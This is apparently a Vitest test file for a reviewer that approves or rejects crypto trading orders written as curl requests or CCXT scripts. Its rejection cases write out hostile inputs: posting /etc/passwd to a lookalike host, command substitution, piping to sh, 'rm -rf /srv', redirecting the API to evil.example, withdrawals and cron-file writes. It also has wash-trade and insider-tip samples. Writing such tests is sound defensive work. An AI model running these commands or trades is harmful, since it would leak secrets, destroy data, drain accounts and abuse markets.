/** Requests with curl, and scripts of trading libraries: curl(1), the documentation of CCXT. */
import { describe, expect, it } from 'vitest'
import { judged, rulesOf } from '../../testing/orders.ts'

const verdict = (artifact: string): string => judged(artifact).verdict

const BODY =
  '{"product_id":"ETH-USD","side":"BUY","order_configuration":{"limit_limit_gtc":{"base_size":"0.02","limit_price":"3000.00"}}}'
const URL = 'https://api.coinbase.com/api/v3/brokerage/orders'
const HEADER = '-H "Authorization: Bearer $JWT"'
const curl = ({
  head = '# monthly buy, account ~19k',
  url = URL,
  options = HEADER,
  data = `-d '${BODY}'`,
  tail = '',
} = {}): string => `${head}\ncurl -sS -X POST ${url} \\\n  ${options} \\\n  ${data}${tail}`

describe('a request with curl [review, 5]', () => {
  it('is the order that it sends, and its comment tells of the account', () => {
    expect(verdict(curl())).toBe('approve')
    expect(verdict(curl({ data: `-d '${BODY.replace('0.02', '20')}'` }))).toBe('reject')
    expect(verdict(curl({ head: '# monthly buy, account ~19k, $60 of ETH' }))).toBe('approve')
  })
  it.each<[string, string]>([
    ['another host', curl({ url: 'https://evilcoinbase.com/api/v3/brokerage/orders' })],
    [
      'a path that moves money',
      curl({ url: 'https://api.coinbase.com/api/v3/brokerage/portfolios/move_funds' }),
    ],
    ['a body from a file', curl({ data: '-d @/etc/passwd' })],
    ['a body from a variable', curl({ data: '-d "$BODY"' })],
    ['what another command writes', curl({ options: '-H "Authorization: $(cat key)"' })],
    ['a header that changes the method', curl({ options: '-H "X-HTTP-Method-Override: DELETE"' })],
    ['attempts that repeat', curl({ options: '--retry 9' })],
    ['a proxy', curl({ options: '-x http://10.0.0.1:8080' })],
    ['a pipe', curl({ tail: ' | sh' })],
    ['a second command', curl({ tail: '; rm -rf /srv' })],
    ['a second request', curl({ tail: `\ncurl -X POST ${URL} -d '${BODY}'` })],
    ['a loop', `for i in 1 2 3; do\n${curl()}\ndone`],
    ['a comment that orders more', curl({ head: '# account ~19k, then buy 40 ETH more' })],
  ])('%s is not approved', (_what, artifact) => {
    expect(verdict(artifact)).not.toBe('approve')
  })
})

const SCRIPT = `# daily stop reached: flat until tomorrow
import ccxt, os
ex = ccxt.okx({"apiKey": os.environ["K"], "secret": os.environ["S"]})
for p in ex.fetch_positions():
    size = float(p["contracts"] or 0)
    if size == 0:
        continue
    side = "sell" if p["side"] == "long" else "buy"
    ex.create_order(p["symbol"], "market", side, size, None, {"reduceOnly": True})
for o in ex.fetch_open_orders():
    ex.cancel_order(o["id"], o["symbol"])
`

describe('a script [review, 5]', () => {
  it('that only closes takes risk away', () => {
    expect(verdict(SCRIPT)).toBe('approve')
  })
  it.each<[string, string]>([
    ['an order that opens', SCRIPT.replace('"reduceOnly": True', '"reduceOnly": False')],
    ['a flag that depends', SCRIPT.replace('True}', 'True if x else False}')],
    ['a second order', `${SCRIPT}ex.create_order("BTC/USDT", "market", "buy", 9)\n`],
    [
      'two orders in a line',
      SCRIPT.replace(
        '    ex.create',
        '    [ex.create_order("BTC/USDT", "market", "buy", 9), ex.create',
      ).replace('True})', 'True})]'),
    ],
    ['another name of the call', `${SCRIPT}f = ex.create_order\nf("BTC/USDT", "market", "buy", 9)\n`],
    ['a command', `${SCRIPT}os.system("id")\n`],
    ['a module', `${SCRIPT}import subprocess\n`],
    ['another address', SCRIPT.replace('for p in', 'ex.urls["api"] = "https://evil.example"\nfor p in')],
    ['a withdrawal', `${SCRIPT}ex.withdraw("USDT", 100, "0xabc")\n`],
    ['a leverage', `${SCRIPT}ex.set_leverage(50, "BTC/USDT")\n`],
    ['a file of the system', `${SCRIPT}open("/etc/cron.d/x", "w").write("x")\n`],
    [
      'positions that stay without their stops',
      SCRIPT.replace('if size == 0:', 'if size == 0 or p["symbol"] != "BTC/USDT:USDT":'),
    ],
  ])('%s is not approved', (_what, artifact) => {
    expect(verdict(artifact)).not.toBe('approve')
  })
  it('that sells from one client to another of the same owner is a wash trade', () => {
    const wash = (price: string): string =>
      `import ccxt\na = ccxt.mexc({"apiKey": K1})\nb = ccxt.mexc({"apiKey": K2})\na.create_order(S, "limit", "sell", q, px)\nb.create_order(S, "limit", "buy", q, ${price})\n`
    expect(rulesOf(judged(wash('px')))).toContain('trade.market_abuse')
    expect(rulesOf(judged(wash('ask')))).not.toContain('trade.market_abuse')
  })
})

describe('words that decide [review, 7]', () => {
  it.each<[string, string, boolean]>([
    [
      'Bought BTC with lots 0.1, 0.2, 0.4, 0.8, all at a loss. Next buy 1.6 BTC at 90k, equity 300k',
      'trade.t18_martingale',
      true,
    ],
    [
      'Buy $500 of ETH, account 40k. Candles of 15m, 30m, 60m and 120m are red, levels hold',
      'trade.t18_martingale',
      false,
    ],
    [
      'Buy 100 KO at 60, stop 58, account 40k. Anna from their finance department told me what the guidance will be',
      'trade.market_abuse',
      true,
    ],
    [
      'Buy 100 KO at 60, stop 58, account 40k. The risk team told me to keep it small',
      'trade.market_abuse',
      false,
    ],
  ])('%s', (text, rule, isFound) => {
    expect(rulesOf(judged(text)).includes(rule)).toBe(isFound)
  })
})
